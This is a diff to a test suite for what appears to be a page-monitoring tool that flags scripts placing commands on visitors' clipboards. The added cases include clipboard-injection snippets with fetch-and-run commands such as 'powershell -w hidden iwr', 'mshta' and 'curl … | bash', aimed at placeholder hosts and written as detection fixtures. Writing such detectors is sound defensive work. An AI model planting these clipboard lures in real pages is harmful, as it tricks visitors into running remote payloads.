@@ -21,3 +21,18 @@ test("a page that always explained such keys is edited like any other", () => {
   const { verdict } = compare(page(lure + shop), page(`${lure}${shop}<p>More chairs</p>`), emptyMemory());
   expect(verdict.severity).toBe("notice");
 });
+
+const far = `;/* ${"a script of its own ".repeat(250)} */`;
+
+test.for([
+  ["navigator.clipboard.writeText('powershell -w hidden iwr x')", true],
+  ["const c = 'mshta https://x'; document.execCommand('copy')", true],
+  ["navigator.clipboard.writeText(x); run('curl https://x | bash')", true],
+  ["fetchBy('curl https://x'); navigator.clipboard.writeText(x)", false],
+  [`navigator.clipboard.writeText(x)${far}'powershell'`, false],
+  ["navigator.clipboard.writeText(location.href)", false],
+] as const)("a script that puts a command on the clipboard is critical: %s", ([code, isLure]) => {
+  const { verdict } = compare(page(shop), page(`${shop}<script>${code}</script>`), emptyMemory());
+  const found = verdict.reasons.some(({ summary }) => /a command on its visitors' clipboard/.test(summary));
+  expect(found).toBe(isLure);
+});
